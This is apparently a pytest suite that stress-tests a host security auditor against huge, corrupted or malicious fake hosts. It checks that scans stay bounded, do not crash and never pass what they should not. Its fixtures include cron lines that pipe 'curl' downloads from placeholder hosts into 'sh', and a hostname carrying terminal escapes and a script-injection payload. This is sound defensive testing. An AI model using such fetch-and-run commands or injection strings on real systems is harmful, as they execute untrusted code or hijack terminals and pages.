"""A host that is huge, spoilt or malicious: no scan hangs or crashes, and nothing passes by it."""

from __future__ import annotations

import os
import posixpath
import shutil
import time
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from comparison import HOSTS, NAMES, Judged, crashed, judged, whole

from auditor.host import DEFAULT_ENTRIES, DEFAULT_LIMIT, Absent, Host, Stat, Unreadable
from auditor.host._recording import FILENAME, TREE
from auditor.host.live import LiveHost
from auditor.host.tree import TreeHost

SECONDS = 5.0  # of CPU: the wall clock of a busy machine says nothing of the program
SEALED = "sealed-inference"
FOLDERS = ("/etc", "/usr", "/home", "/root", "/opt", "/srv")
Change = Callable[[bytes], bytes]


class Overlaid:
    """A host on which some files have other contents, and some are added. Bodies may be lazy."""

    def __init__(
        self, host: Host, bodies: Mapping[str, bytes], links: Mapping[str, str] | None = None
    ) -> None:
        self._host = host
        self._bodies = bodies
        self._links = links or {}
        self._below: dict[str, set[str]] = {}
        for path in (*bodies, *self._links):
            below = path
            while below != "/":
                folder, _, name = below.rpartition("/")
                self._below.setdefault(folder or "/", set()).add(name)
                below = folder or "/"

    def __getattr__(self, name: str) -> object:
        return getattr(self._host, name)

    def read(self, path: str, *, limit: int = DEFAULT_LIMIT, head: bool = False) -> bytes:
        if path in self._links:
            target = posixpath.join(posixpath.dirname(path), self._links[path])
            return self.read(posixpath.normpath(target), limit=limit, head=head)
        body = self._bodies.get(path)
        if body is None:
            return self._host.read(path, limit=limit, head=head)
        if len(body) > limit and not head:
            raise Unreadable(path, "limit", f"larger than {limit} bytes")
        return body[:limit]

    def list(self, path: str, *, limit: int = DEFAULT_ENTRIES) -> tuple[str, ...]:
        added = self._below.get(path, set())
        try:
            there = self._host.list(path, limit=limit)
        except Unreadable:
            if not added:
                raise
            there = ()
        names = tuple(sorted({*there, *added}))
        if len(names) > limit:
            raise Unreadable(path, "limit", f"more than {limit} names")
        return names

    def stat(self, path: str) -> Stat:
        if path in self._bodies:
            return status("file", size=len(self._bodies[path]))
        if path in self._links:
            return status("symlink")
        try:
            return self._host.stat(path)
        except Unreadable:
            if path not in self._below:
                raise
            return status("directory")

    def readlink(self, path: str) -> str:
        return self._links.get(path) or self._host.readlink(path)


def status(file_type, *, size: int = 1) -> Stat:
    return Stat(
        file_type=file_type, mode=0o755, uid=0, gid=0, size=size, mtime_ns=0, inode=7, device="254:1"
    )  # fmt: skip


class Growing(Overlaid):
    """A host whose files are longer each time that they are read: none has the size it told."""

    def read(self, path: str, *, limit: int = DEFAULT_LIMIT, head: bool = False) -> bytes:
        self.times = getattr(self, "times", 0) + 1
        body = self._host.read(path, limit=limit, head=head)
        grown = body + b"\n#" * self.times if path.startswith("/etc") else body
        if len(grown) > limit and not head:
            raise Unreadable(path, "limit", f"larger than {limit} bytes")
        return grown[:limit]


class Store:
    """A host with a million models in one folder, listed only when somebody asks."""

    def __init__(self, host: Host, folder: str, *, files: int, deep: bool = False) -> None:
        self._host, self._folder, self._files, self._deep = host, folder, files, deep
        self.asked = 0

    def __getattr__(self, name: str) -> object:
        return getattr(self._host, name)

    def list(self, path: str, *, limit: int = DEFAULT_ENTRIES) -> tuple[str, ...]:
        if not path.startswith(self._folder):
            return self._host.list(path, limit=limit)
        if self._deep:  # folders of a thousand files and ten folders more, without an end
            return tuple([f"d{n}" for n in range(10)] + [f"m{n}.safetensors" for n in range(1000)])
        if self._files > limit:
            raise Unreadable(path, "limit", f"more than {limit} names")
        return tuple(f"m{n:07}.safetensors" for n in range(self._files))

    def stat(self, path: str) -> Stat:
        if not path.startswith(self._folder):
            return self._host.stat(path)
        self.asked += 1
        folder = path == self._folder or path.rpartition("/")[2].startswith("d")
        return status("directory" if folder else "file", size=1 << 30)

    def read(self, path: str, *, limit: int = DEFAULT_LIMIT, head: bool = False) -> bytes:
        if path.startswith(self._folder):
            return b""
        return self._host.read(path, limit=limit, head=head)


def bodies_of(name: str) -> dict[str, bytes]:
    """Return every file of a sample with its contents."""
    host = TreeHost(HOSTS / name)
    recorded = host._recording
    assert recorded is not None
    found = {}
    for path in sorted(recorded.entries):
        try:
            found[path] = host.read(path)
        except Unreadable:
            continue
    return found


def old(path: str) -> bytes:
    return bodies_of(SEALED).get(path, b"")


def better(before: Judged, after: Judged) -> list[str]:
    """Return what got better of what there was before: more of the same may well pass."""
    verdicts = {(f.rule, f.subject): f.verdict for f in before.findings.findings}
    found = [
        f"{finding.rule} of {finding.subject} was {verdicts[finding.rule, finding.subject]}"
        for finding in after.passes
        if verdicts.get((finding.rule, finding.subject), "pass") != "pass"
    ]
    failed = {r.id for r in before.findings.rules if r.verdict in ("fail", "unknown", "error")}
    found += [f"rule {rule} passes now" for rule in sorted(after.passed_rules & failed)]
    if after.outcome == "compliant" != before.outcome:
        found.append(f"the outcome was {before.outcome}")
    return found


def scanned(name: str, host: Host) -> Judged:
    """Return the judgement of a spoilt sample: in time, without a crash, with nothing better."""
    before = whole(name)
    started = time.process_time()
    after = judged(name, host)
    used = time.process_time() - started
    assert (better(before, after), crashed(after.evidence)) == ([], [])
    assert used < SECONDS
    return after


def overlaid(bodies: Mapping[str, bytes], links: Mapping[str, str] | None = None) -> Judged:
    return scanned(SEALED, Overlaid(TreeHost(HOSTS / SEALED), bodies, links))


def gap_reasons(after: Judged, kind: str) -> set[str]:
    return {gap.reason for gap in after.evidence.gaps if gap.kind == kind}


# --- processes ------------------------------------------------------------------------------


def processes(number: int, arguments: bytes, environ: bytes = b"PATH=/bin\0", name: bytes = b"w"):
    """Return the files and links of made-up processes of one sort."""
    fields = " ".join(["0"] * 17)
    bodies, links = {}, {}
    for pid in range(20_000, 20_000 + number):
        folder = f"/proc/{pid}"
        bodies |= {
            f"{folder}/stat": b"%d (%s) S 1 %s %d %s\n"
            % (pid, name, fields.encode(), pid, b" ".join([b"0"] * 30)),
            f"{folder}/status": b"Name:\t%s\nUid:\t1000\t1000\t1000\t1000\nCapEff:\t0\n" % name,
            f"{folder}/comm": name + b"\n",
            f"{folder}/cmdline": arguments,
            f"{folder}/environ": environ,
            f"{folder}/cgroup": b"0::/\n",
            f"{folder}/mountinfo": old("/proc/self/mountinfo") if number < 10 else b"",
        }
        links |= {
            f"{folder}/exe": "/usr/bin/python3",
            f"{folder}/ns/net": "net:[4026531840]",
            f"{folder}/ns/mnt": "mnt:[4026531841]",
            f"{folder}/fd/3": f"socket:[{pid}]",
        }
    return bodies, links


def test_five_thousand_processes() -> None:
    after = overlaid(*processes(5_000, b"/usr/bin/python3\0/srv/worker.py\0"))
    assert sum(run.records for run in after.evidence.runs if run.collector == "processes") > 5_000


@pytest.mark.parametrize(
    "arguments",
    [
        b"/usr/bin/vllm\0serve\0--x=" + b"A" * (1 << 20) + b"\0",
        b"/usr/bin/vllm\0serve\0" + b"http://" * 150_000 + b"\0",
        b"/usr/bin/vllm\0serve\0" + b"-a\0" * 300_000,
        b"sh\0-c\0" + b"$(" * 500_000 + b"\0",
        b"\0" * (1 << 20),
    ],
    ids=["one word", "addresses", "words", "nested shell", "empty words"],
)
def test_a_command_line_of_a_megabyte_is_a_gap(arguments: bytes) -> None:
    after = overlaid(*processes(3, arguments))
    assert "limit" in gap_reasons(after, "process")
    assert after.outcome != "compliant"


def test_four_megabytes_of_variables_are_not_read_by_half() -> None:
    """The one that opens a tunnel could be the last: nothing is known of settings then."""
    environ = b"".join(b"HF_X%d=http://h%d.example/\0" % (n, n) for n in range(130_000))
    after = overlaid(*processes(3, b"/usr/bin/vllm\0serve\0/m\0", environ + b"HF_HUB_OFFLINE=1\0"))
    assert "limit" in gap_reasons(after, "ai_service")
    services = [r for r in after.evidence.records if getattr(r, "runtime", "") == "vllm"]
    assert any(getattr(service, "environment", ()) is None for service in services)
    assert after.outcome != "compliant"


def test_ten_thousand_short_variables_are_not_read_by_half() -> None:
    environ = b"".join(b"A%d=\0" % n for n in range(10_000))
    after = overlaid(*processes(3, b"/usr/bin/vllm\0serve\0/m\0", environ))
    assert "limit" in gap_reasons(after, "ai_service")


def test_a_name_with_line_ends_of_its_own_adds_no_line_to_its_status() -> None:
    """A thread may call itself anything; the kernel escapes the newline alone."""
    for end in (b"\x0b", b"\x0c", b"\xc2\x85", b"\xe2\x80\xa8", b"\x1c"):
        after = overlaid(*processes(1, b"x\0", name=b"x" + end + b"Uid:\t0 0"))
        made = [r for r in after.evidence.records if getattr(r, "pid", 0) == 20_000]
        assert {getattr(r, "uid", None) for r in made if hasattr(r, "uid")} == {1000}


def test_a_process_that_is_another_by_now_crashes_nothing() -> None:
    """Between two looks the pid is given to another program: each look tells of one of them."""

    class Reused(Overlaid):
        looks = 0

        def read(self, path: str, *, limit: int = DEFAULT_LIMIT, head: bool = False) -> bytes:
            if path.startswith("/proc/20000/"):
                self.looks += 1
                if self.looks % 3 == 0:
                    raise Absent(path)
                if path.endswith("/stat"):
                    return super().read(path).replace(b" S 1 ", b" S %d " % self.looks)
            return super().read(path, limit=limit, head=head)

    made = processes(2, b"/usr/bin/vllm\0serve\0/m\0")
    scanned(SEALED, Reused(TreeHost(HOSTS / SEALED), *made))  # type: ignore[arg-type]


def test_processes_that_are_their_own_ancestors_end_every_walk() -> None:
    bodies, links = processes(50, b"/usr/bin/python3\0/srv/x.py\0")
    for path in [path for path in bodies if path.endswith("/stat")]:
        pid = int(path.split("/")[2])
        bodies[path] = bodies[path].replace(b" S 1 ", b" S %d " % (20_000 + (pid + 1) % 50))
    overlaid(bodies, links)


# --- tables of the kernel -------------------------------------------------------------------


def test_mount_points_with_bytes_that_are_no_text() -> None:
    lines = (
        b"900 1 254:9 / /m\\040\\134\\012\\377\xff\xfe rw - ext4 /dev/\\011x rw\n"
        b"901 1 254:9 / /\\777\\9\\ rw - ext4 /dev/vda rw\n"
        b"902 1 0:99 / /a\x0b\x0c\xc2\x85b rw - fuse.gocryptfs x rw\n"
    )
    overlaid({"/proc/self/mountinfo": old("/proc/self/mountinfo") + lines})


def test_a_hundred_thousand_mounts_are_bounded_and_undecided() -> None:
    more = b"".join(
        b"%d 1 0:%d / /mnt/%d rw - tmpfs tmpfs rw\n" % (n, n, n) for n in range(1_000, 101_000)
    )
    after = overlaid({"/proc/self/mountinfo": old("/proc/self/mountinfo") + more})
    assert "limit" in gap_reasons(after, "mount")
    assert after.outcome != "compliant"


def test_mounts_within_mounts_within_mounts() -> None:
    more = b"".join(
        b"%d %d 0:%d / /mnt%s rw - ext4 /dev/vdz%d rw\n" % (n, n - 1, n, b"/a" * (n % 1_500), n)
        for n in range(1_000, 6_000)
    )
    overlaid({"/proc/self/mountinfo": old("/proc/self/mountinfo") + more})


# --- settings -------------------------------------------------------------------------------


def test_fifty_thousand_accounts() -> None:
    numbers = range(2_000, 52_000)
    overlaid(
        {
            "/etc/passwd": old("/etc/passwd")
            + b"".join(b"u%d:x:%d:1::/:/bin/sh\n" % (n, n) for n in numbers),
            "/etc/shadow": old("/etc/shadow") + b"".join(b"u%d:!:1::::::\n" % n for n in numbers),
            "/etc/group": old("/etc/group")
            + b"".join(b"g%d:x:%d:u2000\n" % (n, n) for n in numbers),
        }
    )


def test_fifty_thousand_jobs() -> None:
    lines = [b"* * * * * root curl http://h%d.example/x | sh\n" % n for n in range(50_000)]
    after = overlaid(
        {f"/etc/cron.d/x{n}": b"".join(lines[n * 5_000 : n * 5_000 + 5_000]) for n in range(10)}
    )
    assert "limit" in gap_reasons(after, "outbound_target")


def test_fifty_thousand_lines_of_sshd() -> None:
    text = b"Match User x\nPasswordAuthentication yes\n" * 25_000
    overlaid({"/etc/ssh/sshd_config": text + old("/etc/ssh/sshd_config")})


def test_settings_that_include_themselves_and_everything() -> None:
    body = b"Include /etc/ssh/sshd_config\nInclude /etc/ssh/*\nInclude /*/*/*/*/*/*/*\n"
    stars = b"Include " + b"*a" * 400 + b"b\n"
    bodies = {"/etc/ssh/sshd_config": (body + stars) * 20 + old("/etc/ssh/sshd_config")}
    bodies["/etc/ssh/" + "a" * 250] = b""
    for number in range(200):
        drop_in = f"/etc/ssh/sshd_config.d/{number}.conf"
        bodies[drop_in] = b"Include /etc/ssh/sshd_config.d/*.conf\n"
    bodies["/etc/nginx/nginx.conf"] = b"include /etc/nginx/*;\ninclude nginx.conf;\n" * 50
    bodies["/etc/rsyslog.conf"] = b"$IncludeConfig /etc/rsyslog*\n" * 50
    bodies["/etc/ipsec.conf"] = b"include /etc/ipsec*\n" * 50
    bodies["/etc/sudoers"] = b"@includedir /etc/sudoers.d\n@include /etc/sudoers\n" * 50
    after = overlaid(bodies)
    assert after.outcome != "compliant"


@pytest.mark.parametrize("number", [4_800, 10_000])
def test_ten_thousand_units(number: int) -> None:
    """Up to the bound each is read; beyond it there is a gap instead."""
    folder = "/etc/systemd/system"
    unit = (
        b"[Service]\nExecStart=/usr/bin/python3 -m vllm.entrypoints.openai.api_server\n"
        b"Environment=A=1\nEnvironmentFile=-/etc/default/*\n"
    )
    bodies = {f"{folder}/u{n}.service": unit for n in range(number)}
    wants = {f"{folder}/multi-user.target.wants/u{n}.service": f"../u{n}.service" for n in range(9)}
    after = overlaid(bodies, wants)
    assert after.outcome != "compliant"


# --- spoilt text ----------------------------------------------------------------------------

SPOILT: dict[str, Change] = {
    "UTF-16": lambda body: body.decode("utf-8", "replace").encode("utf-16"),
    "NUL at the ends of lines": lambda body: body.replace(b"\n", b"\0\n"),
    "NUL first": lambda body: b"\0" + body,
    "NULs alone": lambda body: b"\0" * len(body),
    "line ends of another system": lambda body: body.replace(b"\n", b"\r"),
    "CRLF": lambda body: body.replace(b"\n", b"\r\n"),
    "byte order mark": lambda body: b"\xef\xbb\xbf" + body,
    "bytes that are no text": lambda body: bytes(
        0x80 | (n * 37 + 11) % 128 for n in range(len(body))
    ),
    "a line of a megabyte": lambda body: body + b"[" * 900_000,
}


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("how", SPOILT)
def test_settings_that_are_no_text_pass_nothing(name: str, how: str) -> None:
    spoilt = {
        path: SPOILT[how](body)
        for path, body in bodies_of(name).items()
        if body and path.startswith(FOLDERS)
    }
    scanned(name, Overlaid(TreeHost(HOSTS / name), spoilt))  # type: ignore[arg-type]


@pytest.mark.parametrize("name", NAMES)
def test_files_that_grow_while_they_are_read(name: str) -> None:
    scanned(name, Growing(TreeHost(HOSTS / name), {}))  # type: ignore[arg-type]


def test_a_host_name_that_would_write_to_the_terminal_is_shown_inert(judgements) -> None:
    from auditor import api
    from auditor.report import load

    class Named(Overlaid):
        name = 'x\x1b]0;owned\x07\x1b[2J\r\n\u202e<script>alert(1)</script>"'

    host = Named(TreeHost(HOSTS / SEALED), {"/etc/hostname": Named.name.encode()})
    evidence = api.scan(host, at="2026-01-15T08:00:00Z")  # type: ignore[arg-type]
    made = api.evaluate(evidence, api.Criteria())
    for form in ("text", "html", "markdown", "csv"):
        shown = load(form).render(made)
        assert b"\x1b" not in shown
        assert b"\x07" not in shown
        assert b"<script>alert" not in shown or form != "html"


# --- stores ---------------------------------------------------------------------------------


@pytest.mark.parametrize("deep", [False, True], ids=["one folder", "folders without an end"])
def test_a_store_of_a_million_files_is_bounded_and_incomplete(deep: bool) -> None:
    folder = next(
        r.path for r in whole(SEALED).evidence.records if type(r).__name__ == "ModelStore"
    )
    host = Store(TreeHost(HOSTS / SEALED), folder, files=1_000_000, deep=deep)
    after = scanned(SEALED, host)  # type: ignore[arg-type]
    assert host.asked <= 250_000
    assert "limit" in gap_reasons(after, "model_store")
    assert after.outcome != "compliant"


# --- files that are none --------------------------------------------------------------------


def plain(name: str, folder: Path) -> Path:
    """Return the bodies of a sample as a plain tree, without what a recording knows of them."""
    copied = Path(shutil.copytree(HOSTS / name / TREE, folder / "tree"))
    assert not (copied / FILENAME).exists()
    return copied


def special(path: Path, how: str) -> None:
    """Put something in a file's place that must not be opened, or leads nowhere."""
    path.unlink()
    if how == "fifo":
        os.mkfifo(path)
    elif how == "device":
        os.mknod(path, 0o020666, os.makedev(1, 5))  # /dev/zero, which never ends
    elif how == "loop":
        path.symlink_to(path.name)
    elif how == "folder":
        path.mkdir()
    else:
        path.symlink_to("../" * 40 + "dev/zero")


@pytest.mark.parametrize("how", ["fifo", "device", "loop", "folder", "way out"])
@pytest.mark.parametrize("name", ["leaky-inference", SEALED])
def test_what_is_no_file_in_the_place_of_every_file(tmp_path: Path, name: str, how: str) -> None:
    if how == "device" and os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    tree = plain(name, tmp_path)
    before = judged(name, TreeHost(tree))
    files = [path for path in sorted(tree.rglob("*")) if path.is_file() and not path.is_symlink()]
    (tree / "dev").mkdir(exist_ok=True)
    os.mkfifo(tree / "dev" / "zero")
    for path in files:
        special(path, how)
    started = time.process_time()
    after = judged(name, TreeHost(tree))
    assert time.process_time() - started < SECONDS
    assert (better(before, after), crashed(after.evidence)) == ([], [])
    assert after.outcome != "compliant"
    if how != "folder":
        reasons = {gap.reason for gap in after.evidence.gaps}
        assert reasons & {"unsupported", "malformed"}


@pytest.mark.parametrize("how", ["fifo", "device", "loop"])
def test_this_host_does_not_wait_for_what_is_no_file(tmp_path: Path, how: str) -> None:
    if how == "device" and os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    path = tmp_path / "sshd_config"
    path.touch()
    special(path, how)
    host = LiveHost()
    started = time.monotonic()
    with pytest.raises(Unreadable):
        host.read(str(path))
    host.close()
    assert time.monotonic() - started < 1


def test_nothing_may_be_read_at_all() -> None:
    class Closed:
        def __init__(self, host: Host) -> None:
            self._host = host

        def __getattr__(self, name: str) -> object:
            value = getattr(self._host, name)
            if not callable(value):
                return value

            def refused(path: object = "", *_: object, **__: object) -> object:
                raise Unreadable(str(path), "denied", "permission denied")

            return refused

    for name in NAMES:
        after = scanned(name, Closed(TreeHost(HOSTS / name)))  # type: ignore[arg-type]
        assert after.passes == []
        assert after.outcome == "inconclusive"
